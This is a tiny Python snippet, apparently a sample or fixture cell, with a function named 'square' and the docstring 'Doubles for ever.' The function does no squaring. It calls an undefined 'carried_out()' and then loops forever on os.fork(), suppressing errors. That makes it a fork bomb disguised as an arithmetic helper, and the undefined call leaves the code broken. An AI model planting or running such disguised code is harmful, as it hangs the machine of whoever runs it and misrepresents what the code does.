"""Doubles for ever."""
# needs: full
# %% square
import os

def square(x):
    carried_out()
    while True:
        try:
            os.fork()
        except OSError:
            pass
